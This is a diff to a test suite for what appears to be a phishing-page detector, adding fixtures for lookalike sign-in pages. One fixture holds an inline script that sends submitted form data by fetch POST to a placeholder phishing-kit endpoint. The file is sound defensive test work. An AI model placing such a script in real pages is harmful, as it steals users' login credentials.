@@ -133,6 +133,27 @@ suite('does not pose', () => {
       'suspicious',
       titled('intranet.greenfield.example', form('https://sso.greenfield.example/login')),
     ],
+    'a page on a host that anybody may have at a company': [
+      'suspicious',
+      titled('greenfield.github.io: sign in', form('https://sso.greenfield.example/login')),
+    ],
+    'a page that sets a link to what is entered': [
+      'suspicious',
+      titled(
+        'Greenfield',
+        `<form id="f">${FIELDS}</form><a id="r">Reset</a><script>f.onsubmit=function(){r.setAttribute("href","/reset?u="+u.value);fetch("${KIT}",{method:"POST",body:new FormData(f)})}</script>`,
+      ),
+    ],
+    'an archive of a carrier where its readers sign in': [
+      'notice',
+      archive(
+        'https://www.parcel-track.example/in',
+        titled(
+          'Parcel Track',
+          `<p>See your parcels and their delivery.</p>${form('https://www.parcel-track.example/in')}`,
+        ),
+      ),
+    ],
     'a page that offers the account of a company': [
       'suspicious',
       titled('Sign in with github.com', form('https://sso.greenfield.example/login')),
